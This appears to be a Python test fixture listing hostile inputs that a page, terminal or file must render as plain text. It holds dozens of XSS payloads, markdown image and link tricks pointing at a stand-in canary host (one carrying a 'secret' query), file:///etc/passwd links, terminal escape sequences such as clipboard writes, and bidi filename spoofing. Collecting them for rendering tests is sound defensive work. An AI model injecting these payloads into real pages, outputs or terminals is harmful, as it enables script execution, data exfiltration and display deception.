"""Words that want to be more than words: what a page, a terminal and a file must show as text."""

CANARY = "https://canary.example"
_FIRE = "window.fired=1;alert(1)"

XSS = [
    f"<script>{_FIRE}</script>", f"<ScRiPt>{_FIRE}</sCrIpT>", f"</script><script>{_FIRE}</script>", f"<script src={CANARY}/x.js></script>",
    f"<img src=x onerror={_FIRE!r}>", f"<img/src=x/onerror={_FIRE}>", f"<svg onload={_FIRE!r}>", f"<svg/onload={_FIRE}>", f"<svg><script>{_FIRE}</script></svg>",
    f"<body onload={_FIRE!r}>", f"<iframe srcdoc='<script>parent.{_FIRE}</script>'></iframe>", f"<iframe src='javascript:{_FIRE}'></iframe>", f"<iframe src={CANARY}></iframe>",
    f"<object data='javascript:{_FIRE}'></object>", f"<embed src={CANARY}/x.swf>", f"<a href='javascript:{_FIRE}'>click</a>", f"<a href='data:text/html,<script>{_FIRE}</script>'>click</a>",
    f"<math><mtext><style><img src=x onerror={_FIRE!r}></style></mtext></math>", f"<noscript><p title='</noscript><img src=x onerror={_FIRE!r}>'>", f"<template><script>{_FIRE}</script></template>",
    f"<input autofocus onfocus={_FIRE!r}>", f"<details open ontoggle={_FIRE!r}>", f"<video src=x onerror={_FIRE!r}></video>", f"<audio src=x onerror={_FIRE!r}>", f"<marquee onstart={_FIRE!r}>",
    f"<form action='javascript:{_FIRE}'><button>go</button></form>", f"<button onclick={_FIRE!r} autofocus>", f"<meta http-equiv=refresh content='0;url={CANARY}'>", f"<base href={CANARY}/>", f"<link rel=stylesheet href={CANARY}/x.css>",
    f"<style>@import '{CANARY}/x.css';</style>", f"<div style='background:url({CANARY}/x.png)'>", f"<div style=\"width:expression({_FIRE})\">", "<!--><script>window.fired=1</script>-->", f"<![CDATA[<script>{_FIRE}</script>]]>",
    f"<scr<script>ipt>{_FIRE}</scr</script>ipt>", f"&lt;script&gt;{_FIRE}&lt;/script&gt;", f"{{{{constructor.constructor('{_FIRE}')()}}}}", f"${{{_FIRE}}}", f"<x onclick={_FIRE!r} style=position:fixed;inset:0>cover</x>",
    f"<img src=x:alert(alt) onerror=eval(src) alt={_FIRE!r}>", f"<svg><animate onbegin={_FIRE!r} attributeName=x dur=1s>", f"<svg><a xlink:href='javascript:{_FIRE}'><text y=20>x</text></a></svg>", f"\"><img src=x onerror={_FIRE!r}>", f"'-{_FIRE}-'",
]  # fmt: skip
MARKDOWN = [
    f"![x]({CANARY}/a.png)", f"![x]({CANARY}/a.png?q=secret 'title')", f"![x][r]\n\n[r]: {CANARY}/b.png", f"[![x]({CANARY}/c.png)]({CANARY})", f"![](//{CANARY[8:]}/d.png)", f"![x](data:image/svg+xml,<svg onload={_FIRE!r}>)",
    f"[x](javascript:{_FIRE})", f"[x](JaVaScRiPt:{_FIRE})", f"[x](java\nscript:{_FIRE})", f"[x](&#106;avascript:{_FIRE})", f"[x](vbscript:{_FIRE})", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](file:///etc/passwd)", f"[x](blob:{_FIRE})",
    f"<javascript:{_FIRE}>", f"<{CANARY}/auto>", f"[{CANARY}](https://evil.example)", f"[x]( javascript:{_FIRE})", f"[x](<javascript:{_FIRE}>)", f"[x][y]\n\n[y]: javascript:{_FIRE}", f"```html\n<script>{_FIRE}</script>\n```", f"`<script>{_FIRE}</script>`",
    f"| a |\n|---|\n| <img src=x onerror={_FIRE!r}> |", f"[^1]\n\n[^1]: <script>{_FIRE}</script>", f"# <svg onload={_FIRE!r}>", f"- [ ] <img src={CANARY}/t.png>", f"~~<iframe src={CANARY}>~~", f"www.canary.example/<script>{_FIRE}</script>", f"[x](mailto:a@b.c?body={_FIRE})", f"[x](\x01javascript:{_FIRE})",
]  # fmt: skip
TERMINAL = [
    "\x1b[2J\x1b[H", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]52;c;c2VjcmV0\x07", "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", "\x1b]50;font\x07", "\x1bPq#0\x1b\\", "\x1b[6n", "\x1b[c", "\x1b[?1049h", "\x1b[?25l", "\x1b[8m hidden", "\x1b[1A\x1b[2K overwritten", "\x9b31m", "\x90q\x9c",
    "\x9d52;c;Zm9v\x9c", "\x08\x08\x08", "\rover", "\x07\x07", "\x0e\x0f", "\x1b[5i", "\x1b#8", "\x1bc", "\x1b[!p", "\x1b]1337;File=inline=1:AAAA\x07", "\x1b]11;#000000\x07", "\x1b_Gf=100;AAAA\x1b\\", "\x1b^private\x1b\\", "\x7f\x7f", "\x00null",
    "\u202eexe.txt", "\u2066isolate\u2069", "\u200bzero\u200bwidth", "\ufeffbom", "\u2028line\u2029paragraph",
]  # fmt: skip
LINKS = [
    "javascript:window.fired=1", "JAVASCRIPT:window.fired=1", "\tjavascript:window.fired=1", "data:text/html,<script>window.fired=1</script>", "vbscript:x", "file:///etc/passwd", "//canary.example/x", "ftp://canary.example/x", "view-source:https://canary.example", "chrome://settings",
]  # fmt: skip
ALL = [*XSS, *MARKDOWN, *TERMINAL, *LINKS]
